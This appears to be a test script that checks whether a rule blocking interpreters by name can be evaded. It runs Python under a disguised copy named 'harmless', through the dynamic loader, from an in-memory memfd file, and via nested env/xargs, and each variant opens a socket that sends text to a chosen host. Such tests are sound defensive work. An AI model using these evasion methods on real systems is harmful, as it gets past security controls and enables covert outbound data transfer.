"""Connects by an interpreter whose name a rule would miss: `dodge HOW FOLDER HOST PORT TEXT`."""

import glob
import os
import shutil
import subprocess
import sys

from prelude import arguments, ended

how, folder, host, port, text = arguments
python = os.path.realpath(sys.executable)
words = ["-I", "-c", "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])), 3); "]
words[2] += "s.send(sys.argv[3].encode()); s.settimeout(3); s.recv(100)"
words += [host, port, text]
if how == "copy":
    argv = [os.path.join(folder, "harmless")]
    shutil.copy(python, argv[0])
elif how == "loader":
    loaders = glob.glob("/lib64/ld-linux-*.so.*") + glob.glob("/lib/ld-linux-*.so.*") + glob.glob("/lib/ld-musl-*")
    if not loaders:
        ended("no loader")
    argv = [loaders[0], python]
elif how == "memory":
    memory = os.memfd_create("harmless", 0)
    with open(python, "rb") as original:
        os.write(memory, original.read())
    argv = [f"/proc/self/fd/{memory}"]
    os.set_inheritable(memory, True)
elif how == "nested":
    argv = ["env", "A=b", "sh", "-c", 'exec xargs -0 "$@" </dev/null', "sh", python]
result = subprocess.run([*argv, *words], close_fds=False, capture_output=True, text=True, timeout=10)
print(result.stderr[-300:])
ended("done" if result.returncode == 0 else f"exit {result.returncode}")
